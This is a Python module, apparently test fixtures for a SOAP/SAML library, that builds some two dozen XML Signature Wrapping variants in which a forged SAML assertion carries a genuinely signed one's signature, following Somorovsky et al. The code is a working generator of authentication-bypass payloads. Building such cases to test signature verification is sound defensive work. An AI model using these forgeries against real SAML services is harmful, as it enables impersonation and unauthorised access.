"""Signature wrapping: an assertion that was really signed, and another that wears its signature.

Source: Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), XSW 1 to 8, written for
an assertion in a SOAP header, and others. Each function gives the header blocks of the message.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass, field

from lxml import etree

from carnet.wire.saml.names import DSIG, SAML
from carnet.wire.soap.envelope import SECURITY

WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"
FOREIGN = "urn:x:foreign"


@dataclass
class Pieces:
    """The signed assertion, the same without its signature, the signature, and the forged one, whose ID differs."""

    original: etree._Element
    forged: etree._Element
    bare: etree._Element = field(init=False)
    signature: etree._Element = field(init=False)

    def __post_init__(self) -> None:
        self.signature = deepcopy(self.original[1])
        self.bare = deepcopy(self.original)
        self.bare.remove(self.bare[1])

    @property
    def dressed(self) -> etree._Element:
        """The forged assertion with the signature of the other right after its issuer."""
        self.forged.insert(1, self.signature)
        return self.forged


def pieces(signed: bytes, forge: Callable[[bytes], bytes]) -> Pieces:
    """What an attacker has who holds a signed assertion and writes another."""
    original = etree.fromstring(signed)
    bare = deepcopy(original)
    bare.remove(bare[1])
    text = etree.tostring(bare)
    changed = forge(text)
    assert changed != text
    forged = etree.fromstring(changed)
    forged.set("ID", "_forged")
    return Pieces(original, forged)


def security(*inside: etree._Element) -> list[etree._Element]:
    """A wsse:Security with these children."""
    block = etree.Element(f"{{{SECURITY}}}Security", nsmap={"o": SECURITY})
    block.extend(inside)
    return [block]


def d(name: str) -> str:
    """A name of XML Signature."""
    return f"{{{DSIG}}}{name}"


def q(name: str) -> str:
    """A name of SAML."""
    return f"{{{SAML}}}{name}"


def box(*inside: etree._Element, **attributes: str) -> etree._Element:
    """An element that nobody knows."""
    element = etree.Element(f"{{{FOREIGN}}}Box", **attributes)
    element.extend(inside)
    return element


def put(parent: etree._Element, child: etree._Element) -> etree._Element:
    """`parent`, once `child` is its last."""
    parent.append(child)
    return parent


def _object(p: Pieces, inside: etree._Element) -> list[etree._Element]:
    etree.SubElement(p.signature, d("Object")).append(inside)
    return security(p.dressed)


def _in(p: Pieces, place: str, inside: etree._Element) -> list[etree._Element]:
    forged = p.dressed
    next(forged.iter(q(place))).append(inside)
    return security(forged)


def _key_info(p: Pieces) -> list[etree._Element]:
    p.signature.find(d("KeyInfo")).append(p.bare)
    return security(p.dressed)


def _signed_info(p: Pieces) -> list[etree._Element]:
    p.signature[0].append(p.bare)
    return security(p.dressed)


def _same_id(p: Pieces) -> list[etree._Element]:
    p.forged.set("ID", p.bare.get("ID"))
    return _object(p, p.bare)


def _decoy(p: Pieces, name: str) -> list[etree._Element]:
    forged = p.dressed
    forged.append(box())
    forged[-1].set(name, p.bare.get("ID"))
    return security(forged)


def _retargeted(p: Pieces) -> list[etree._Element]:
    next(p.signature.iter(d("Reference"))).set("URI", "#_forged")
    return security(p.dressed)


def _id_swapped(p: Pieces) -> list[etree._Element]:
    p.forged.set("ID", p.bare.get("ID"))
    return security(p.dressed)


def _two_references(p: Pieces) -> list[etree._Element]:
    reference = deepcopy(next(p.signature.iter(d("Reference"))))
    reference.set("URI", "#_forged")
    p.signature[0].append(reference)
    return security(put(p.dressed, p.bare))


def _two_signatures(p: Pieces) -> list[etree._Element]:
    forged = p.dressed
    forged.append(deepcopy(p.signature))
    return security(forged)


def _deeper(p: Pieces) -> list[etree._Element]:
    next(p.forged.iter(q("Subject"))).append(p.original)
    return security(p.forged)


def _encrypted(p: Pieces) -> list[etree._Element]:
    forged = p.dressed
    etree.SubElement(forged, q("EncryptedAssertion")).append(p.bare)
    return security(forged)


def _advice(p: Pieces) -> list[etree._Element]:
    forged = p.dressed
    etree.SubElement(forged, q("Advice")).append(p.bare)
    return security(forged)


# Name → the header blocks of the attack.
HEADERS: Mapping[str, Callable[[Pieces], list[etree._Element]]] = {
    "XSW1 forged beside a wrapper that holds the signed one": lambda p: [box(p.original), *security(p.forged)],
    "XSW2 signature detached, beside both": lambda p: [*security(p.forged, p.signature), box(p.bare)],
    "XSW3 forged before the signed one": lambda p: security(p.forged, p.original),
    "XSW3b forged after the signed one": lambda p: security(p.original, p.forged),
    "XSW3c forged in a second security header": lambda p: [*security(p.original), *security(p.forged)],
    "XSW4 signed one inside the forged one": lambda p: security(put(p.forged, p.original)),
    "XSW5 signature in the forged one, the bare one beside": lambda p: security(p.dressed, p.bare),
    "XSW6 the bare one inside the signature": lambda p: security(_into_signature(p)),
    "XSW7 the bare one in an extension": lambda p: security(put(p.dressed, box(p.bare))),
    "XSW7b the signed one in an extension": lambda p: security(put(p.forged, box(p.original))),
    "XSW8 the bare one in an Object": lambda p: _object(p, p.bare),
    "XSW8b the signed one in an Object": lambda p: _object(p, p.original),
    "XSW9 the bare one in an Object, one ID": _same_id,
    "XSW10 the bare one in Advice": _advice,
    "XSW11 the bare one in a value": lambda p: _in(p, "AttributeValue", p.bare),
    "XSW12 the bare one in the subject": lambda p: _in(p, "Subject", p.bare),
    "XSW13 the bare one in KeyInfo": _key_info,
    "XSW14 the bare one in SignedInfo": _signed_info,
    "XSW15 the signed one in the subject": _deeper,
    "XSW16 the bare one as EncryptedAssertion": _encrypted,
    "XSW17 the bare one in another header": lambda p: [*security(p.dressed), box(p.bare)],
    "XSW18 a decoy of the same ID": lambda p: _decoy(p, "ID"),
    "XSW19 a decoy of the same wsu:Id": lambda p: _decoy(p, f"{{{WSU}}}Id"),
    "XSW20 a decoy of the same xml:id": lambda p: _decoy(p, "{http://www.w3.org/XML/1998/namespace}id"),
    "XSW21 reference turned to the forged one": _retargeted,
    "XSW22 the ID of the signed one": _id_swapped,
    "XSW23 two references": _two_references,
    "XSW24 two signatures": _two_signatures,
}


def _into_signature(p: Pieces) -> etree._Element:
    p.signature.append(p.bare)
    return p.dressed
